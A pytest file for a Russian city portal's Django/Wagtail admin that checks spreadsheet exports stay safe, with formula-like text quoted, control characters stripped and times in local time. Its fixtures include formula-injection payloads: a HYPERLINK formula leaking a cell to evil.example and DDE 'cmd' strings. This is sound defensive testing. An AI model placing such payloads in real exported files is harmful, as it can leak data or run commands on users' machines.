"""Every spreadsheet the portal gives out opens safely in Excel and LibreOffice: text that starts like
a formula stays text, control characters never break the file, and moments are in the city's time."""

import csv
import datetime
import io
import json
import zipfile

import openpyxl
import pytest
from django.urls import get_resolver, resolve
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from feedback.models import ProblemReport
from home.spreadsheet import FORMULA_STARTS, SafeSpreadsheetExportMixin, safe_cell
from tests.factories import DecisionPageFactory
from tests.feedback_helpers import FORM_URL, form_data, make_report, staff_user
from tests.helpers import decision_registry
from tests.test_feedback_inbox import edit_data, edit_url

pytestmark = pytest.mark.django_db

LIST_URL = "/admin/snippets/feedback/problemreport/"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Нажмите")'
# What a resident or an editor could type, each a formula (or a DDE command) if left as it is.
FORMULAS = [
    HYPERLINK,
    "+7 912 345-67-89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]


@pytest.fixture
def moderator(client):
    client.force_login(staff_user("moderator", "Модераторы обращений"))
    return client


def csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def xlsx_book(response):
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_marked_as_text(text):
    assert safe_cell(text) == "'" + text.replace("\x0b", "")


def test_ordinary_text_and_numbers_are_left_alone():
    assert safe_cell("ул. Кирова, 5") == "ул. Кирова, 5"
    assert safe_cell("Фонарь = не горит") == "Фонарь = не горит"
    assert safe_cell(-5) == -5 and safe_cell(None) is None
    assert safe_cell("строка\x0bещё\x1b") == "строкаещё"
    assert all(safe_cell(start + "1").startswith("'") for start in FORMULA_STARTS)


def report_with_formulas():
    report = make_report(description=FORMULAS[0], address=FORMULAS[1])
    ProblemReport.objects.filter(pk=report.pk).update(
        public_answer="\n".join(FORMULAS),
        internal_note=FORMULAS[3],
        created_at=datetime.datetime(2026, 3, 1, 20, 30, tzinfo=datetime.UTC),
        closed_at=datetime.datetime(2026, 3, 2, 6, 5, tzinfo=datetime.UTC),
        due_date=datetime.date(2026, 3, 31),
    )
    return ProblemReport.objects.get(pk=report.pk)


def test_inbox_csv_neutralises_formulas_and_opens_in_russian_excel(moderator):
    report = report_with_formulas()
    response = moderator.get(LIST_URL, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    header, row = csv_rows(response)
    assert header[:3] == ["Номер", "Поступило", "Категория"]
    cells = dict(zip(header, row, strict=True))
    assert cells["Номер"] == report.number
    assert cells["Описание"] == "'" + HYPERLINK
    assert cells["Адрес или место"] == "'+7 912 345-67-89"
    assert cells["Ответ жителю"].startswith("'=HYPERLINK")
    # Europe/Samara is UTC+4: the evening of 1 March in UTC is after midnight in Glazov.
    assert cells["Поступило"] == "02.03.2026 00:30"
    assert cells["Закрыто"] == "02.03.2026 10:05"
    assert cells["Срок ответа"] == "31.03.2026"
    for value in row:
        assert not value.startswith(FORMULA_STARTS), value


def test_inbox_xlsx_keeps_the_text_as_typed_but_never_as_a_formula(moderator):
    report = report_with_formulas()
    response = moderator.get(LIST_URL, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = xlsx_book(response).active
    header, row = list(sheet.iter_rows())
    cells = {heading.value: cell for heading, cell in zip(header, row, strict=True)}
    assert cells["Номер"].value == report.number
    description = cells["Описание"]
    assert description.value == HYPERLINK and description.data_type == "s"
    assert description.quotePrefix  # Excel keeps it text even when the cell is edited
    assert cells["Адрес или место"].quotePrefix
    assert not cells["Категория"].quotePrefix
    assert cells["Поступило"].value == datetime.datetime(2026, 3, 2, 0, 30)
    assert cells["Поступило"].number_format == "dd.mm.yyyy hh:mm"
    assert cells["Срок ответа"].number_format == "dd.mm.yyyy"
    # No cell of the file is a formula.
    with zipfile.ZipFile(
        io.BytesIO(b"".join(moderator.get(LIST_URL, {"export": "xlsx"}).streaming_content))
    ) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def test_a_resident_typing_a_formula_into_the_form_cannot_plant_it_in_the_export(client, moderator):
    assert client.post(FORM_URL, form_data(description=HYPERLINK, name="=1+1")).status_code == 302
    header, *rows = csv_rows(moderator.get(LIST_URL, {"export": "csv"}))
    description = header.index("Описание")
    assert [row[description] for row in rows] == ["'" + HYPERLINK]


def test_registry_csv_neutralises_formulas_and_json_keeps_the_text(client):
    act = DecisionPageFactory(parent=decision_registry(), title=HYPERLINK, number="№ 77")
    act.save_revision().publish()
    header, *rows = csv_rows(client.get("/ru/decisions/export/csv/"))
    row = dict(zip(header, next(row for row in rows if row[0] == "№ 77"), strict=True))
    assert row["title"] == "'" + HYPERLINK
    data = json.loads(client.get("/ru/decisions/export/json/").content)
    assert next(item for item in data["items"] if item["number"] == "№ 77")["title"] == HYPERLINK


def test_decisions_admin_export_neutralises_formulas(client):
    DecisionPageFactory(parent=decision_registry(), title=HYPERLINK, number="№ 78")
    client.force_login(staff_user("redaktor", "Редакторы"))
    response = client.get("/admin/decision_pages/", {"export": "csv"})
    assert response.status_code == 200
    _header, *rows = csv_rows(response)
    assert ["№ 78", "'" + HYPERLINK] in [row[:2] for row in rows]
    response = client.get("/admin/decision_pages/", {"export": "xlsx"})
    cell = next(row[1] for row in xlsx_book(response).active.iter_rows() if row[0].value == "№ 78")
    assert cell.value == HYPERLINK and cell.quotePrefix


def exporting_views(patterns=None, prefix=""):
    """(address, view class) of every admin listing in the URLconf that offers a spreadsheet download."""
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if hasattr(pattern, "url_patterns"):
            yield from exporting_views(pattern.url_patterns, prefix + str(pattern.pattern))
            continue
        view_class = getattr(pattern.callback, "view_class", None)
        initkwargs = getattr(pattern.callback, "view_initkwargs", {})
        exports = view_class and issubclass(view_class, SpreadsheetExportMixin)
        if exports and initkwargs.get("list_export", view_class.list_export):
            yield prefix + str(pattern.pattern), view_class


def test_every_export_in_the_admin_goes_through_the_safe_cells():
    """What answers each address with a download (Wagtail's own reports included) has the safe cells."""
    addresses = {address for address, _view in exporting_views()}
    assert {
        "admin/snippets/feedback/problemreport/",
        "admin/decision_pages/",
        "admin/reports/site-history/",
    } <= addresses
    answering = {address: resolve("/" + address).func.view_class for address in addresses}
    unsafe = sorted(
        address for address, view in answering.items() if not issubclass(view, SafeSpreadsheetExportMixin)
    )
    assert not unsafe, f"these admin listings export without home.spreadsheet: {unsafe}"


def test_site_history_csv_neutralises_a_formula_in_a_page_title(client):
    act = DecisionPageFactory(parent=decision_registry(), title=HYPERLINK, number="№ 79")
    act.save_revision(log_action=True).publish()
    client.force_login(staff_user("admin", superuser=True))
    response = client.get("/admin/reports/site-history/", {"export": "csv"})
    assert response.status_code == 200
    header, *rows = csv_rows(response)
    labels = [row[header.index("Имя")] for row in rows]
    assert "'" + HYPERLINK in labels and HYPERLINK not in labels
    client.force_login(staff_user("redaktor", "Редакторы"))
    assert client.get("/admin/reports/site-history/").status_code == 200
    assert client.get("/admin/redirects/").status_code in (200, 302)


def test_an_answer_pasted_from_word_is_saved_clean_and_the_xlsx_export_works(moderator):
    """Word's Shift+Enter is a vertical tab (\\x0b): it made the XLSX download fail with a server error."""
    report = make_report()
    answer = "Фонарь заменят.\x0bБригада выедет в четверг.\x0cСпасибо!\x07"
    response = moderator.post(
        edit_url(report),
        edit_data(report, status="accepted", public_answer=answer, internal_note="Звонил\x0bмастеру\x1b"),
    )
    assert response.status_code == 302
    report.refresh_from_db()
    assert report.public_answer == "Фонарь заменят.\nБригада выедет в четверг.\nСпасибо!"
    assert report.internal_note == "Звонил\nмастеру"
    response = moderator.get(LIST_URL, {"export": "xlsx"})
    assert response.status_code == 200
    header, row = list(xlsx_book(response).active.iter_rows())
    cells = {heading.value: cell.value for heading, cell in zip(header, row, strict=True)}
    assert cells["Ответ жителю"] == report.public_answer


def test_a_status_comment_pasted_from_word_is_saved_clean(moderator):
    report = make_report()
    moderator.post(
        edit_url(report), edit_data(report, status="accepted", status_comment="Передано\x0bв ЖКХ\x01")
    )
    assert report.status_changes.latest("pk").comment == "Передано\nв ЖКХ"


def test_the_export_holds_control_characters_that_reached_the_database_another_way(moderator):
    """The spreadsheet module removes them itself too: an old report or a shell edit cannot break the file.

    (No NUL among them: PostgreSQL refuses it in text, so it cannot reach the database.)
    """
    report = make_report()
    ProblemReport.objects.filter(pk=report.pk).update(
        public_answer="Ответ\x0bс\x1fпереносом\ufffe", description="=1+1\x0b"
    )
    response = moderator.get(LIST_URL, {"export": "xlsx"})
    assert response.status_code == 200
    header, row = list(xlsx_book(response).active.iter_rows())
    cells = {heading.value: cell for heading, cell in zip(header, row, strict=True)}
    assert cells["Ответ жителю"].value == "Ответспереносом"
    assert cells["Описание"].value == "=1+1" and cells["Описание"].quotePrefix
    header, row = csv_rows(moderator.get(LIST_URL, {"export": "csv"}))
    assert dict(zip(header, row, strict=True))["Описание"] == "'=1+1"
